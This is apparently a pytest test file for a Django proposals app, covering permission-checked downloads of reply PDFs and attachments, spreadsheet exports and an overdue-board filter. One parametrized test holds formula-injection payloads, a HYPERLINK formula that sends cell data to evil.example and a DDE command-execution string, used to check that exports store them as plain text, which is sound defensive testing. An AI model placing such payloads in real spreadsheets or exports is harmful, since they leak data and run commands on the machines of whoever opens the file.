"""Downloads of reply documents and attachments are permission-checked and served inline."""

from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from renda.core.documents import blank_pdf
from renda.proposals import services
from renda.proposals.tests.factories import BODY, replied, world

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def client_for(user) -> Client:
    c = Client()
    c.force_login(user)
    return c


def test_reply_document_download_is_permission_checked_and_inline():
    # given a replied suggestion (deputy 0 leads, unit 0 replied)
    w = world()
    p, _a, r = replied(w)
    url = reverse("proposals:reply-document", args=[r.pk])
    # when the deputy, the unit and staff download; another deputy, another unit and the public try
    ok = [client_for(u).get(url) for u in (w.deputy_users[0], w.unit_users[0], w.staff)]
    refused = [client_for(u).get(url).status_code for u in (w.deputy_users[3], w.unit_users[2])]
    anonymous = Client().get(url)
    missing = client_for(w.staff).get(reverse("proposals:reply-document", args=[r.pk + 999]))
    # then allowed viewers get the PDF inline, the others 404 (anonymous: the login page), missing 404 alike
    for resp in ok:
        assert resp.status_code == 200
        assert resp["Content-Type"] == "application/pdf"
        assert resp["Content-Disposition"].startswith("inline")
        assert b"".join(resp.streaming_content).startswith(b"%PDF")
    assert refused == [404, 404]
    assert anonymous.status_code == 302 and "/media/" not in anonymous["Location"]
    assert missing.status_code == 404
    detail = client_for(w.deputy_users[0]).get(reverse("proposals:detail", args=[p.pk])).content.decode()
    assert url in detail and "/media/" not in detail


def test_attachment_download_only_for_those_who_may_open_the_proposal():
    # given a draft with an attachment
    w = world()
    p = services.proposal_create(
        actor=w.deputy_users[0],
        title="关于修缮老旧管网的建议",
        body=BODY,
        topic="城乡建设",
        attachments=[SimpleUploadedFile("plan.pdf", blank_pdf())],
    )
    url = reverse("proposals:attachment", args=[p.attachments.get().pk])
    # when the author and another deputy download it
    mine = client_for(w.deputy_users[0]).get(url)
    other = client_for(w.deputy_users[3]).get(url)
    # then only the author gets it
    assert mine.status_code == 200 and mine["Content-Type"] == "application/pdf"
    assert other.status_code == 404


@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "=cmd|' /C calc'!A0", "@SUM(1+1)"])
def test_formula_in_a_suggestion_title_is_text_in_the_staff_and_unit_exports(title):
    # given an assigned suggestion whose title is a spreadsheet formula
    from openpyxl import load_workbook

    from renda.proposals.tests.factories import assigned

    w = world()
    assigned(w, title=title)
    staff, unit = Client(), Client()
    staff.force_login(w.staff)
    unit.force_login(w.unit_users[0])
    # when staff export the list and the unit exports its inbox
    exported = [
        staff.get(reverse("proposals:list"), {"format": "xlsx"}),
        unit.get(reverse("proposals:inbox"), {"format": "xlsx"}),
    ]
    # then the title cell is text, unchanged, in both workbooks
    for response in exported:
        assert response.status_code == 200
        ws = load_workbook(io.BytesIO(response.content)).active
        [cell] = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == title]
        assert cell.data_type == "s"


@pytest.mark.parametrize("unit", ["²", "１２", "9" * 23, "abc", "-1"])
def test_overdue_board_unit_filter_with_odd_digits_is_ignored_not_a_500(unit):
    # given staff on the overdue board
    w = world()
    c = Client()
    c.force_login(w.staff)
    # when the unit filter holds a superscript, full-width digits, a 23-digit or a non-number
    response = c.get(reverse("proposals:overdue-board"), {"unit": unit})
    # then the board is shown unfiltered
    assert response.status_code == 200
